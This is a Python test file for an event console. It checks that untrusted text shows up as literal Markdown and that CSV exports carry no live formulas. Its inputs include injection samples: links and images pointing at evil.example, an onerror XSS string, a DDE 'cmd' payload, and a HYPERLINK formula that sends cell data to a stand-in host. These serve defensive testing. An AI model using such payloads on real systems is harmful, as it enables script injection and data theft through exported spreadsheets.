"""Untrusted text reaches the screen literally and a CSV export without live formulas."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from console.formatting import CSV_FORMULA_TRIGGERS, csv_safe_cell, literal_md, page_index
from console.store import EventFilter, EventRecord, EventStore

WORD_JOINER = "\u2060"
HOSTILE = [
    "[x](http://evil.example/a)",
    "![](http://evil.example/x.png)",
    "<img src=x onerror=alert(1)>",
    "<a href='http://evil.example'>a</a>",
    "https://evil.example/path",
    "www.evil.example",
    "mallory@evil.example",
    "<https://evil.example>",
    "# heading *em* **strong** _u_ ~~s~~",
    "- item",
    "1. item",
    "> quote",
    "| a | b |",
    "a ` b `` c ``` d",
    "`starts and ends with a backtick`",
    "``",
    ":red[red] :blue-background[bg] :material/home: :smile: :streamlit:",
    "$x^2$ $$y$$",
    "line one\n# line two\r\n\r\n> three\rfour",
    "\\[escaped\\](http://evil.example)",
    "  padded  ",
    " ",
]


def code_span_content(markdown: str) -> str:
    """What CommonMark shows for `markdown` if it is exactly one inline code span; fails otherwise.

    A code span opens with a run of N backticks and closes at the next run of exactly N; one
    space is stripped from each end when both ends have one and the content is not all spaces.
    """
    assert "\n" not in markdown and "\r" not in markdown, "a line break could start a block"
    opening = re.match(r"`+", markdown)
    assert opening, f"{markdown!r} does not start a code span"
    fence = opening.group()
    closing = next(
        (m for m in re.finditer(r"`+", markdown[len(fence) :]) if m.group() == fence), None
    )
    assert closing is not None, f"{markdown!r} never closes its code span"
    end = len(fence) + closing.start()
    assert end + len(fence) == len(markdown), f"{markdown!r} has text after its code span"
    content = markdown[len(fence) : end]
    if content.startswith(" ") and content.endswith(" ") and content.strip(" "):
        content = content[1:-1]
    return content


def shown(text: str) -> str:
    """The text as literal_md promises to show it: line breaks as ↵, ":material/" unchanged."""
    text = re.sub(r"\r\n|[\r\n\v\f\x85\u2028\u2029]", "↵", text)
    return text.replace(":material/", f":{WORD_JOINER}material/")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_one_code_span_showing_it(text: str) -> None:
    assert code_span_content(literal_md(text)) == shown(text)


@given(st.text(min_size=1))
def test_any_text_becomes_one_code_span_showing_it(text: str) -> None:
    assert code_span_content(literal_md(text)) == shown(text)


def test_fence_is_longer_than_any_backtick_run() -> None:
    assert literal_md("a ``` b") == "```` a ``` b ````"
    assert literal_md("plain") == "` plain `"


def test_streamlits_icon_rewrite_cannot_change_the_text() -> None:
    # Streamlit replaces ":material/" in the raw source, code spans included.
    assert ":material/" not in literal_md(":material/home:")
    assert literal_md(":material/home:").replace(WORD_JOINER, "") == "` :material/home: `"


def test_line_breaks_are_shown_not_obeyed() -> None:
    assert literal_md("a\nb\r\nc\rd") == "` a↵b↵c↵d `"


@pytest.mark.parametrize("empty", ["", None])
def test_nothing_renders_as_nothing(empty: str | None) -> None:
    assert literal_md(empty) == ""


def test_non_text_is_shown_as_its_str() -> None:
    assert literal_md(404) == "` 404 `"


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_formula_cells_get_a_leading_quote(cell: str) -> None:
    assert csv_safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["usr_1", "", " =1+1", "a=b", '{"json": 1}', "'quoted"])
def test_ordinary_text_cells_are_unchanged(cell: str) -> None:
    assert csv_safe_cell(cell) == cell


@pytest.mark.parametrize("value", [-5, 3, -1.5, True, False])
def test_numbers_and_booleans_are_unchanged(value: object) -> None:
    assert csv_safe_cell(value) is value


def test_every_owasp_trigger_is_covered() -> None:
    assert set(CSV_FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r", "\n"}


def test_export_csv_neutralises_formulas_from_a_webhook(tmp_path: Path) -> None:
    store = EventStore(f"sqlite:///{tmp_path / 'csv.db'}")
    store.migrate()
    occurred = datetime(2026, 11, 1, 10, 0, tzinfo=UTC)
    body = json.dumps({"type": "=cmd|' /C calc'!A0", "payload": {}})
    store.write_events(
        [
            EventRecord(
                event_id="@ev-1",
                type="=cmd|' /C calc'!A0",
                message="m",
                lean_timestamp=occurred,
                received_at=occurred,
                verified=True,
                source_ip="-1.2.3.4",
                payload=body,
                size=len(body),
                customer_id="+cust",
                entity_id="\tent",
                app_user_id='=HYPERLINK("http://evil.example","x")',
                bank_identifier="@BANK",
                refresh_id="\rref",
                status="-FAILED",
            )
        ]
    )
    rows = list(csv.DictReader(io.StringIO(store.export_csv(EventFilter()))))
    store.dispose()
    assert len(rows) == 1
    row = rows[0]
    for column in (
        "event_id",
        "type",
        "customer_id",
        "entity_id",
        "app_user_id",
        "bank_identifier",
        "refresh_id",
        "status",
        "source_ip",
    ):
        assert row[column].startswith("'"), (column, row[column])
    assert row["app_user_id"] == "'" + '=HYPERLINK("http://evil.example","x")'
    assert row["delivery_count"] == "1" and row["verified"] == "True"
    assert row["lean_timestamp"] == occurred.isoformat()
    assert row["payload"] == body


def test_a_page_number_from_a_link_is_a_small_positive_number_or_nothing() -> None:
    assert page_index("1", pages=3) == 0
    assert page_index(" 3 ", pages=3) == 2
    assert page_index("99", pages=3) == 2  # past the end: the last page
    assert page_index("1", pages=0) == 0
    for raw in ("0", "00", "-1", "+1", "1.5", "1e3", "x", "", "١", "1" + "0" * 5000):
        assert page_index(raw, pages=3) is None, raw


def test_a_page_position_reads_as_words_in_the_singular_and_the_plural() -> None:
    from console.formatting import rows_words

    assert rows_words(0, 13, 13, exact=True, noun="line") == "lines 1–13 of 13"
    assert rows_words(3, 1, 4, exact=True, noun="line") == "line 4 of 4"
    assert rows_words(50, 50, 12_345) == "rows 51–100 of about 12,345"
    assert rows_words(0, 0, 7, noun="call") == "no calls of about 7"
